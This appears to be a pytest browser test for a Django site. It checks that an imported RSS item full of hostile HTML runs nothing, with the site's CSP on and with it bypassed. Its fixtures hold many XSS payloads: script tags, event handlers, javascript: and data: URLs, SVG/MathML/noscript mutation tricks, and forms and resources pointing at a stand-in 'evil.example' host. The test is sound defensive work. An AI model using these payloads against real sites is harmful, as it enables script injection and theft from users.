"""An imported item full of hostile HTML is opened in a real browser: nothing of it runs.

The page is opened twice: as served, under the site's Content-Security-Policy, and with the
policy bypassed, which proves the stored HTML is harmless by itself (the policy is a second
line, not the only one). In both cases no JavaScript dialog opens, the page stays where it is,
and no request leaves for another host.
"""

import pytest

from .conftest import screenshot

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = "https://evil.example"
# Rows A1–A13 of docs/hostile-inputs.md, as they arrive inside one feed item.
HOSTILE_BODY = f"""
<p>Opening paragraph of the hostile story.</p>
<script>alert('script element')</script>
<script src="{EVIL}/steal.js"></script>
<img src="x" onerror="alert('onerror')">
<img src="none.png" onerror="alert('onerror 2')" onload="alert('onload')">
<body onload="alert('body onload')">
<a id="js-link" href="javascript:alert('javascript link')">javascript link</a>
<a href="JaVaScRiPt:alert('mixed case')">mixed case</a>
<a href="jav&#x09;ascript:alert('tab')">tab inside</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<iframe src="{EVIL}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<object data="{EVIL}/object.swf"></object>
<embed src="{EVIL}/embed.swf">
<svg><script>alert('svg script')</script><a><set attributeName="href" to="javascript:alert(1)"/>
<text>svg text</text></a><image href="{EVIL}/svg.png"/></svg>
<math><annotation-xml encoding="text/html">
<img src=x onerror="alert('mathml')"></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<meta http-equiv="refresh" content="0;url={EVIL}/refreshed">
<base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/style.css">
<style>@import url("{EVIL}/import.css"); body {{ background: url("{EVIL}/bg.png") }}</style>
<p style="background:url({EVIL}/inline.png)">styled paragraph</p>
<form action="{EVIL}/collect"><input name="q" autofocus onfocus="alert('autofocus')">
<button formaction="{EVIL}/button">send</button></form>
<details open ontoggle="alert('ontoggle')"><summary>details</summary></details>
<video poster="{EVIL}/poster.png"><source src="{EVIL}/video.mp4"></video>
<p>Closing paragraph of the hostile story.</p>
"""
HOSTILE_TITLE = "\"><img src=x onerror=alert('title')></script><script>alert('title 2')</script>"
HOSTILE_AUTHOR = "<img src=x onerror=alert('author')>Mallory"


@pytest.fixture
def hostile_article(demo_site, feed_server):
    from articles.models import Article, Source
    from syndication.entry import import_feed
    from syndication.models import Feed

    from .content import Item, rss

    item = Item(
        guid="hostile-1",
        title=HOSTILE_TITLE,
        link=feed_server.url("/stories/hostile"),
        summary="<b onmouseover=alert('summary')>summary</b>",
        body_html=HOSTILE_BODY,
        author=HOSTILE_AUTHOR,
        categories=["<script>alert('category')</script>"],
    )
    feed_server.routes["/feed.xml"] = (
        200,
        {"Content-Type": "application/rss+xml"},
        rss("Hostile feed <script>alert('feed')</script>", feed_server.url("/"), [item]),
    )
    feed = Feed.objects.create(
        source=Source.objects.get(slug="open-grid-journal"),
        url=feed_server.url("/feed.xml"),
        default_status="published",
    )
    run = import_feed(feed)
    assert run.created == 1, run.summary
    return Article.objects.published().get(imported_item__guid="hostile-1")


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["as-served", "csp-bypassed"])
def test_hostile_html_in_an_imported_item_does_nothing_in_the_browser(
    open_page, hostile_article, bypass_csp
):
    page, watch = open_page(bypass_csp=bypass_csp)
    url = hostile_article.get_absolute_url()
    navigations = []
    page.on(
        "framenavigated", lambda frame: frame == page.main_frame and navigations.append(frame.url)
    )
    page.goto(url)
    page.wait_for_timeout(1500)  # long enough for a meta refresh or a late onerror to fire
    screenshot(page, f"hostile article {'no csp' if bypass_csp else 'with csp'}")

    body = page.locator('[data-block="body"]')
    assert "Opening paragraph" in body.inner_text()
    assert "Closing paragraph" in body.inner_text()
    for selector in ["script", "iframe", "object", "embed", "svg", "math", "form", "input",
                     "style", "meta", "base", "link", "video", "details", "[style]"]:  # fmt: skip
        assert body.locator(selector).count() == 0, selector
    handlers = body.evaluate(
        """node => [node, ...node.querySelectorAll('*')].flatMap(
            el => el.getAttributeNames().filter(name => name.startsWith('on')))"""
    )
    assert handlers == []
    hrefs = body.evaluate("node => [...node.querySelectorAll('a[href]')].map(a => a.href)")
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in hrefs), hrefs
    # The title is text wherever it appears: the heading, the head and the JSON-LD block.
    assert page.locator('[data-block="title"] *:not(span)').count() == 0
    assert page.locator("script:not([type='application/ld+json'])").count() == 0
    assert page.locator("script[type='application/ld+json']").count() == 1
    page.evaluate("JSON.parse(document.querySelector('script[type=\"application/ld+json\"]').text)")

    # A link stripped of its javascript: URL goes nowhere when clicked.
    page.locator("text=javascript link").click()
    page.wait_for_timeout(300)

    assert page.url.endswith(url)
    assert navigations == [page.url]
    watch.assert_quiet()
